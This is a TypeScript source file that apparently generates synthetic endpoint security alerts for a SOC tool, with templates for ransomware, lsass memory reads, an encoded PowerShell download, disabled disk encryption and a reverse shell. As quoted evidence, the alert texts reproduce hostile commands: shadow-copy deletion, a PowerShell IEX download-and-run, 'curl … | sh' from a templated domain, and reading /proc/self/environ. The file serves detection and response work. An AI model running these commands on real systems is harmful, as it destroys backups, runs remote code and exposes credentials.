/** Laptops, workstations and servers. */
import type { AlertKind } from '../kind.ts';
import { code, list, steps, table, text } from '../markdown.ts';

export const endpointKinds: readonly AlertKind[] = [
  {
    source: 'crowdstrike',
    severities: ['critical', 'critical', 'high'],
    tags: ['endpoint', 'T1486', 'ransomware'],
    name: (s) => `Ransomware behaviour on ${s.host}: ${s.many} files renamed`,
    summary: (s) =>
      `A process renamed ${s.many} files within ${s.minutes} minutes and deleted the shadow copies; the host is isolated.`,
    description: (s) =>
      text(
        `A process without a signature renamed ${s.many} files on **${s.host}** (user ${s.login}) and left a note in each folder. The sensor killed it and cut the host from the network.`,
        code(
          'text',
          `image    C:\\Users\\${s.login}\\AppData\\Local\\Temp\\upd.exe`,
          `sha256   ${s.sha256}`,
          'parent   WINWORD.EXE',
          'command  vssadmin delete shadows /all /quiet',
        ),
        '### Reached so far',
        list(
          `local disk of ${s.host}`,
          `share \`\\\\files-03\\team\`: ${s.few} files before the cut`,
          'no other host shows the hash',
        ),
        '### Next',
        steps(
          'Do **not** reconnect the host.',
          'Lock the account and find the document that started it.',
          'Restore the share from the snapshot of last night.',
        ),
        'Contact and order of calls: [ransomware runbook](https://runbooks.soc.example/ransomware).',
      ),
  },
  {
    source: 'defender',
    severities: ['high', 'medium'],
    tags: ['endpoint', 'T1003.001', 'credential-dumping'],
    name: (s) => `Memory of lsass.exe read on ${s.host}`,
    summary: (s) =>
      `An unsigned program opened lsass.exe with rights that allow its memory to be copied (${s.login}).`,
    description: (s) =>
      text(
        `On **${s.host}** a program opened \`lsass.exe\` with \`PROCESS_VM_READ\`. Credentials of everybody signed in there may have been copied.`,
        table(
          ['Time', 'Process', 'Right'],
          ['+0 s', 'rundll32.exe', '0x1010'],
          [`+${s.few} s`, 'rundll32.exe', '0x1FFFFF'],
        ),
        'Known harmless causes:',
        list('the inventory agent in version 7.2 (fixed in 7.3)', 'a crash dump asked for by support'),
        `Neither is installed on this host. The file has the hash \`${s.sha256.slice(0, 32)}…\`, unknown to public services.`,
      ),
  },
  {
    source: 'crowdstrike',
    severities: ['high', 'medium', 'medium'],
    tags: ['endpoint', 'T1059.001', 'powershell'],
    name: (s) => `Encoded PowerShell download on ${s.host}`,
    summary: (s) => `PowerShell was started with an encoded command that loads a script from ${s.domain}.`,
    description: (s) =>
      text(
        `Outlook started PowerShell on **${s.host}**. Decoded, the command reads:`,
        code(
          'powershell',
          `$u = "https://${s.domain}/a/${s.few}.txt"`,
          'IEX (New-Object Net.WebClient).DownloadString($u)',
        ),
        `The name \`${s.domain}\` was registered ${s.few} days ago and resolves to \`${s.outsideIp}\`.`,
        '**Open questions**',
        list(
          'Did the download succeed? The proxy log has the answer.',
          'Who else got the mail?',
          'Does the scheduled task `OneDrive Sync Helper` belong to us?',
        ),
      ),
  },
  {
    source: 'osquery',
    severities: ['low', 'info'],
    tags: ['endpoint', 'hardening'],
    name: (s) => `Disk encryption switched off on ${s.host}`,
    summary: (s) => `${s.host} reports an unencrypted system volume for the first time.`,
    description: (s) =>
      text(
        `The daily report of **${s.host}** (${s.login}) shows its system volume without encryption. Yesterday it was encrypted.`,
        code('sql', 'SELECT name, encrypted FROM disk_encryption', "WHERE name = '/dev/disk1s1';"),
        'Mostly this follows a repair or a new installation. The policy asks for encryption within three days.',
        steps(
          'Ask the service desk for a repair ticket.',
          'Send the self-service link.',
          'Close this alert when the next report is fine.',
        ),
      ),
  },
  {
    source: 'falco',
    severities: ['critical', 'high'],
    tags: ['endpoint', 'linux', 'T1059.004', 'reverse-shell'],
    name: (s) => `Reverse shell from ${s.service} on ${s.server}`,
    summary: (s) =>
      `A shell with its input and output tied to ${s.outsideIp}:${s.port} was started by ${s.service}.`,
    description: (s) =>
      text(
        `The web process of **${s.service}** on \`${s.server}\` started a shell whose standard streams are a socket.`,
        code(
          'text',
          'proc.name=bash  proc.pname=node  user.name=www-data',
          `fd.rip=${s.outsideIp}  fd.rport=${s.port}`,
          'proc.cmdline=bash -i',
        ),
        'Within the session these commands were seen:',
        code('sh', 'id; uname -a', 'cat /proc/self/environ', `curl -s http://${s.domain}/x | sh`),
        `The environment holds the database password of ${s.service}, so **rotate it now**.`,
        list(
          'Cut the connection at the egress firewall.',
          'Snapshot the container before it is replaced.',
          'Look for the request that came just before, in the access log.',
        ),
      ),
  },
];
